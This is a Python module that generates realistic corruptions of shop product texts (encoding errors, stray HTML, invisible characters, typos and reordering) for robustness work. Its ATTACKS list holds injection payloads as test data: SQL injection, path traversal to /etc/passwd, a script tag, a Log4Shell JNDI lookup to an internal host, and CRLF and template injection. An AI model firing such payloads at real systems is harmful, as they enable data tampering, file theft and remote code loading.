"""How texts break in real shops: pure functions of a text and a random generator that always change the text."""

import unicodedata
from collections.abc import Sequence

import numpy as np

from workbench.data.sources.storefront.faults.shop import chinese

COMPATIBILITY = {unicodedata.normalize("NFC", chr(c)): chr(c) for c in range(0xF900, 0xFA6E)}
"""Han characters and the compatibility characters that Unicode's canonical composition (UAX #15) turns into them."""

PLACEHOLDERS = ("test", "N/A", "null", "TODO", "asdf", "xxx", "Lorem ipsum dolor sit amet", "TBD", "undefined", "Title")
PLACEHOLDERS_ZH = ("测试", "测试商品请勿拍", "待补充", "无", "null", "暂无", "商品标题", "1111", "test", "占位文本")
DESCRIPTIONS = (
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit.", "TODO: description", "n/a", "see title",
    "test test test", "Description goes here", "-", "null", "Insert product text", "tbd",
)  # fmt: skip
DESCRIPTIONS_ZH = (
    "详情待补充",
    "暂无描述",
    "测试",
    "同上",
    "请填写商品描述",
    "null",
    "无",
    "描述描述描述",
    "见图",
    "。",
)
QUERIES = ("undefined", "null", "[object Object]", "{{query}}", "%s", "test123", "NaN", "search...", "${q}", "None")
ATTACKS = (
    "' OR '1'='1' --", "1; DROP TABLE users;--", "https://www.example-deals.com/promo?id=81", "../../../../etc/passwd",
    "<script>alert(1)</script>", "shoes' UNION SELECT NULL,NULL,version()-- -", "${jndi:ldap://10.0.0.5/a}",
    "boots%' AND SLEEP(5) AND '%'='", "http://cheap-kicks.example/login.php", "{{7*7}}",
    "admin'/*", "%0d%0aSet-Cookie:x=1",
)  # fmt: skip
SPAM = (
    "Great product!! Visit my shop for 80% off, link in profile.",
    "Earn $500 a day from home, write to me on Telegram @fastcash24",
    "Good good good good quality fast delivery five stars recommend",
    "I got it for free from this seller, message +1 202 555 0143 to join.",
)
SPAM_ZH = (
    "好评返现加微信 shop8866，名额有限！",
    "刷单兼职日结300元，详情加QQ 1029384756",
    "非常好非常好非常好非常好，五星好评，十五字凑字数",
    "同款厂家直销更便宜，加我微信领券 yx-2020",
)
REVIEWS = (
    "Fits well and looks good.",
    "A bit narrow, otherwise fine.",
    "Comfortable from day one.",
    "Colour as shown.",
)
REVIEWS_ZH = ("穿着很舒服，尺码正好。", "颜色和图片一样。", "有点偏小，建议大一码。", "质量不错，物流也快。")


def _one(options: Sequence[str], rng: np.random.Generator) -> str:
    return options[int(rng.integers(len(options)))]


def _cut(text: str, rng: np.random.Generator) -> int:
    return int(rng.integers(1, len(text))) if len(text) > 1 else len(text)


def _accented(text: str, rng: np.random.Generator) -> str:
    """The text with a sign beyond ASCII in it, as English product texts have them."""
    if not text.isascii():
        return text
    swaps = [("'", "’"), (", ", " – "), ("-", "–"), (". ", "… "), (" ", "\u00a0")]
    choices = [text.replace(plain, typeset, 1) for plain, typeset in swaps if plain in text.rstrip()]
    return _one([*choices[:2], f"{text} Café", f"{text}™" if len(text) < 60 else f"{text} – à la mode"], rng)


def _read_as(raw: bytes, encoding: str) -> str:
    """Bytes read in a wrong encoding; the bytes that Windows leaves undefined come out as latin-1, as in browsers."""
    if encoding == "cp1252":
        return "".join(bytes([b]).decode("cp1252", "ignore") or chr(b) for b in raw)
    return raw.decode(encoding, errors="replace")


def mojibake(text: str, rng: np.random.Generator) -> str:
    """Bytes of one encoding read as another: UTF-8 as Windows-1252, latin-1 or GB 18030, GBK as latin-1, or lost."""
    han = chinese(text)
    text = _accented(text, rng)
    way = _one(["cp1252", "latin-1", "gb18030", "lost", "gbk" if han else "twice"], rng)
    if way == "gbk":
        return text.encode("gb18030").decode("latin-1")
    if way == "lost":
        kept = [c if c.isascii() or (han and rng.random() < 0.5) else "\ufffd" for c in text]
        return "".join(kept) if "\ufffd" in kept else "\ufffd" + text[1:]
    once = _read_as(text.encode(), way if way != "twice" else "cp1252")
    return _read_as(once.encode(), "cp1252") if way == "twice" else once


def marked_up(text: str, rng: np.random.Generator) -> str:
    """Left-over HTML: tags, entities, escapes done twice, tags cut off."""
    spaced = text.replace(" ", "&nbsp;", 1) if " " in text else f"{text}&nbsp;"
    forms = [
        f"<b>{text}</b>", f"<p>{text}</p>", spaced, f"{text}<br />", f'<span style="color:#f00">{text}',
        f"{text} &amp;amp; more" if not chinese(text) else f"{text}&amp;amp;配件", f"&quot;{text}&quot;",
        f"&lt;div&gt;{text}&lt;/div&gt;", f'<a href="/p?id=12">{text}</a>', f"{text}</li", f"{text}&hellip;&#x20;",
    ]  # fmt: skip
    return _one(forms, rng)


def invisible(text: str, rng: np.random.Generator) -> str:
    """A sign nobody sees: zero-width spaces, byte-order mark, control characters, direction marks, soft hyphens."""
    sign = _one(["\u200b", "\ufeff", "\x07", "\x1f", "\u202e", "\u00ad", "\u2060", "\x08", "\u200d", "\x0b"], rng)
    at = 0 if sign == "\ufeff" else _cut(text, rng)
    return text[:at] + sign + text[at:]


def widened(text: str, rng: np.random.Generator) -> str:
    """Letters and digits in their full-width form: all, the first word, or the digits."""
    wide = {c: c + 0xFEE0 for c in range(0x21, 0x7F)}
    first, space, rest = text.partition(" ")
    digits = {c: wide[c] for c in range(0x30, 0x3A)}
    forms = [text.translate(wide).replace(" ", "\u3000"), first.translate(wide) + space + rest, text.translate(digits)]
    changed = [form for form in forms if form != text] if any(c.isascii() and c.isalnum() for c in text) else []
    return _one(changed or [f"{text} ４２码", f"{text}（ＸＬ）", f"２０２４ {text}"], rng)


def decomposed(text: str, rng: np.random.Generator) -> str:
    """Text out of Unicode's composed form: letters apart from their accents, compatibility characters for Han."""
    if unicodedata.normalize("NFD", text) != text:
        return unicodedata.normalize("NFD", text)
    if chinese(text):
        at = [i for i, c in enumerate(text) if c in COMPATIBILITY]
        if not at:
            return text + COMPATIBILITY["女"] + "款"
        here = at[int(rng.integers(len(at)))]
        return text[:here] + COMPATIBILITY[text[here]] + text[here + 1 :]
    return unicodedata.normalize("NFD", f"{text} {_one(['Rosé', 'Crème', 'à porter', 'Décolleté', 'Señora'], rng)}")


def untidy(text: str, rng: np.random.Generator) -> str:
    """White space gone wrong: doubled, leading, trailing, tabs, line breaks, ideographic and no-break spaces."""
    gap = _one(["   ", "\t", "\r\n", "\u3000\u3000", "\u00a0 "], rng)
    at = _cut(text, rng)
    inside = text.replace(" ", gap, 1) if " " in text else text[:at] + gap + text[at:]
    return _one([f"  {text}", f"{text} \n", f"\t{text}", inside, f"{inside}  "], rng)


def mistyped(text: str, rng: np.random.Generator) -> str:
    """One slip of the keyboard inside a longer word: letters swapped, dropped or doubled, one or two characters."""
    for _ in range(50):
        at = int(rng.integers(1, max(len(text) - 1, 2)))
        pair = text[at : at + 2]
        if len(pair) < 2 or not (pair.isalpha() and text[at - 1].isalnum()):
            continue
        new = _one([pair[::-1], pair[0], pair[0] + pair], rng)
        if new != pair:
            return text[:at] + new + text[at + 2 :]
    return text + text[-1:] if text else "x"


def reordered(text: str, rng: np.random.Generator) -> str:
    """The same words in another order, as two sellers write one product."""
    words = text.split()
    if len(words) < 2:
        at = 2 if len(text) > 3 else 1
        return text[at:] + text[:at] if text[at:] + text[:at] != text else f"{text} {text}"
    forms = [
        [words[-1], *words[:-1]],
        [*words[1:], words[0]],
        [words[-1] + ("，" if chinese(text) else ","), *words[:-1]],
        [*words[:-2], words[-1], words[-2]],
    ]
    different = [" ".join(form) for form in forms if form != words]
    return _one(different or [f"{text} {words[0]}"], rng)


def restyled(text: str, rng: np.random.Generator) -> str:
    """The same words with other capitals and punctuation."""
    if chinese(text):
        return _one([f"【{text}】", f"{text}！", f"[{text}]", f"{text[:2]} {text[2:]}", f"★{text}★", f"{text}。"], rng)
    plain = text.replace("-", " ") if "-" in text else text.replace(" ", "-", 1)
    forms = [
        text.upper(),
        text.lower(),
        f"{text}!",
        text.swapcase(),
        plain,
        f"*{text}*",
        text.replace(" ", ", ", 1),
        f"{text}.",
    ]
    return _one([form for form in forms if form != text], rng)
